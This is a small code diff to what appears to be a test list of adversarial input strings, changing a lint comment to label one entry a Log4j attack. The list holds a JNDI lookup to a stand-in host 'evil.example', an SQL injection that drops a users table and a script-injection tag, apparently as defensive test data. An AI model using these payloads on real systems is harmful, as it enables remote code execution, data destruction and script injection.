@@ -24,7 +24,7 @@ const TEXTS = [
   '.',
   '..',
   '{otp}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack.
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is a Log4j attack, not a template.
   '${jndi:ldap://evil.example/a}',
   "'; DROP TABLE users; --",
   '<script>alert(1)</script>',
